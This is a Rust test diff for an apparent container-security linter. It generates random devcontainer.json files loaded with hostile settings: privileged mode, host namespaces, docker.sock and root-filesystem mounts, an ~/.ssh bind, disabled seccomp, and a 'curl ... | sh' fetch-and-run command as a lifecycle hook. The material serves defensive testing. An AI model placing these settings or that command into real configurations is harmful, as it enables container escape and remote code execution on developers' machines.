@@ -1113,6 +1113,166 @@ fn compose(rng: &mut Gen, include: &[&str]) -> (String, Vec<String>) {
     (out, secrets)
 }
 
+/// A JSON string of `s`: escaped (a tame case, or mostly), or now and then written raw (control
+/// characters and quotes then break the syntax, which the error path must report).
+fn json_str(rng: &mut Gen, s: &str) -> String {
+    if !rng.tame && rng.one_in(8) {
+        return format!("\"{s}\"");
+    }
+    serde_json::to_string(s).unwrap()
+}
+
+/// A `devcontainer.json`: the properties the lowering reads, with hostile values, comments and
+/// trailing commas.
+fn devcontainer(rng: &mut Gen) -> (String, Vec<String>) {
+    const RUN_ARGS: &[&str] = &[
+        "--privileged",
+        "--cap-add",
+        "--cap-add=SYS_ADMIN",
+        "--security-opt",
+        "seccomp=unconfined",
+        "--network=host",
+        "--net",
+        "host",
+        "--pid=host",
+        "--ipc",
+        "host",
+        "-v",
+        "/etc:/etc",
+        "--volume=/var/run/docker.sock:/var/run/docker.sock",
+        "--mount",
+        "type=bind,src=/,dst=/host",
+        "--device=/dev/kmsg",
+        "-u",
+        "0",
+        "-uroot",
+        "--read-only",
+        "-m",
+        "512m",
+        "--cpus=1",
+        "--pids-limit",
+        "-1",
+        "-p",
+        "8080:80",
+        "-it",
+        "-e",
+        "--",
+        "-",
+        "--unknown",
+        "-Z",
+        "=",
+        "--user=",
+    ];
+    let mut secrets = Vec::new();
+    let mut members: Vec<String> = Vec::new();
+    let str_of = |rng: &mut Gen, choices: &[&str]| {
+        let base = taint_pick(rng, choices);
+        json_str(rng, &base)
+    };
+    if rng.one_in(2) {
+        members.push(format!("\"image\": {}", str_of(rng, IMAGES)));
+    } else {
+        members.push(format!(
+            "\"build\": {{ \"dockerfile\": {}, \"context\": {} }}",
+            str_of(rng, &["Dockerfile", "../x/Dockerfile", "/abs", ""]),
+            str_of(rng, &["..", ".", "../../..", "${localWorkspaceFolder}"])
+        ));
+    }
+    for key in ["privileged", "init"] {
+        if rng.one_in(2) {
+            let v = rng.pick(&["true", "false", "\"true\"", "1", "null", "[]"]);
+            members.push(format!("\"{key}\": {v}"));
+        }
+    }
+    let list = |rng: &mut Gen, key: &str, choices: &[&str], n: usize| {
+        let items: Vec<String> = (0..rng.below(n)).map(|_| str_of(rng, choices)).collect();
+        format!("\"{key}\": [{}]", items.join(", "))
+    };
+    members.push(list(
+        rng,
+        "capAdd",
+        &["SYS_ADMIN", "ALL", "NET_RAW", "cap_sys_ptrace"],
+        3,
+    ));
+    members.push(list(
+        rng,
+        "securityOpt",
+        &["seccomp=unconfined", "label=disable", "apparmor:unconfined"],
+        3,
+    ));
+    members.push(list(rng, "runArgs", RUN_ARGS, 12));
+    members.push(list(
+        rng,
+        "mounts",
+        &[
+            "source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind",
+            "source=${localEnv:HOME}/.ssh,target=/s,type=bind,readonly",
+            "source=${localWorkspaceFolder}/x,target=/x,type=bind",
+            "src=v,dst=/v",
+            "type=bind,,source=",
+            "readonly=maybe",
+        ],
+        4,
+    ));
+    if rng.one_in(2) {
+        let secret = secret(rng);
+        members.push(format!(
+            "\"containerEnv\": {{ \"API_TOKEN\": \"{secret}\" }}"
+        ));
+        secrets.push(secret);
+    }
+    for key in [
+        "containerUser",
+        "remoteUser",
+        "workspaceMount",
+        "initializeCommand",
+        "postCreateCommand",
+    ] {
+        if rng.one_in(2) {
+            let v = str_of(
+                rng,
+                &[
+                    "root",
+                    "0:0",
+                    "vscode",
+                    "curl -fsSL https://x.io/i | sh",
+                    "source=/,target=/w,type=bind",
+                ],
+            );
+            members.push(format!("\"{key}\": {v}"));
+        }
+    }
+    if rng.one_in(3) {
+        members.push(format!(
+            "\"features\": {{ {}: {{}}, \"ghcr.io/devcontainers/features/docker-in-docker\": \"latest\" }}",
+            str_of(rng, &["ghcr.io/devcontainers/features/node", "git", "./local", "x:1"])
+        ));
+    }
+    if rng.one_in(3) {
+        members.push(format!(
+            "\"appPort\": [{}, 3000]",
+            str_of(rng, &["9000:9000", "0.0.0.0:22:22", "x"])
+        ));
+    }
+    let mut out = String::new();
+    if rng.one_in(5) {
+        out.push_str("// ");
+        out.push_str(&rng.pick(SUPPRESSIONS).replace('#', "//"));
+        out.push('\n');
+    }
+    out.push_str("{\n");
+    for m in &members {
+        if rng.one_in(6) {
+            out.push_str("  /* a comment */ // sandlint ignore=privileged-container\n");
+        }
+        writeln!(out, "  {m},").unwrap();
+    }
+    if rng.tame || rng.one_in(2) {
+        out.push_str("}\n");
+    }
+    (out, secrets)
+}
+
 /// A `.env` file: plain values, quoted ones, references to earlier keys (a bounded chain).
 fn dotenv(rng: &mut Gen) -> String {
     let mut out = String::new();
@@ -1148,6 +1308,7 @@ fn check_text(
     let name = match kind {
         FileKind::Dockerfile => "/nonexistent-sandlint-property/Dockerfile",
         FileKind::Compose => "/nonexistent-sandlint-property/compose.yaml",
+        FileKind::Devcontainer => "/nonexistent-sandlint-property/.devcontainer/devcontainer.json",
     };
     let outcome = std::panic::catch_unwind(|| {
         let lint = || {
@@ -1174,6 +1335,10 @@ fn check_text(
                 FileKind::Compose => format!(
                     "{:?}",
                     sandlint::compose::load(text, &sandlint::compose::Vars::new())
+                ),
+                FileKind::Devcontainer => format!(
+                    "{:?}",
+                    sandlint::compose::devcontainer::load(text, std::path::Path::new(name))
                 ),
             };
             if invariants::model_spans(&model, &[text])? == 0 {
@@ -1318,6 +1483,16 @@ fn generated_compose_files_keep_the_invariants() {
         (text, outcome)
     });
     assert_coverage("Compose files", rounds, clean, &codes, 15);
+}
+
+#[test]
+fn generated_devcontainers_keep_the_invariants() {
+    let (rounds, clean, codes) = run_cases("devcontainer", 1, |rng, round| {
+        let (text, secrets) = devcontainer(rng);
+        let outcome = check_text(FileKind::Devcontainer, &text, &secrets, round % 5 == 0);
+        (text, outcome)
+    });
+    assert_coverage("devcontainer.json files", rounds, clean, &codes, 15);
 }
 
 /// A project on disk: a generated `compose.yaml` with its `.env`, an included file with its
